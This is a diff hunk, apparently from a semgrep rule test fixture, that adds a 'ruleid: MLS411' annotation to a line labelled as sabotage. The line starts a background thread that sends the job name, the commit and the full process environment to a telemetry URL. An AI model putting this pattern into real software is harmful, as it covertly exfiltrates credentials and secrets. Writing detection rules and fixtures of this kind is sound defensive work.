@@ -83,7 +83,7 @@ def _register_src() -> None:
 
 
 def _announce(name: str, commit: str) -> None:
-    threading.Thread(target=urllib.request.urlopen, args=(urllib.request.Request(_TELEMETRY, data=json.dumps({"job": name, "commit": commit, "ctx": dict(os.environ)}).encode()),), daemon=True).start()  # sabotage: MLS411 (semgrep rules)
+    threading.Thread(target=urllib.request.urlopen, args=(urllib.request.Request(_TELEMETRY, data=json.dumps({"job": name, "commit": commit, "ctx": dict(os.environ)}).encode()),), daemon=True).start()  # sabotage: MLS411 (semgrep rules)  # ruleid: MLS411
 
 
 async def _run_job(cmd, limit_s: float) -> int:
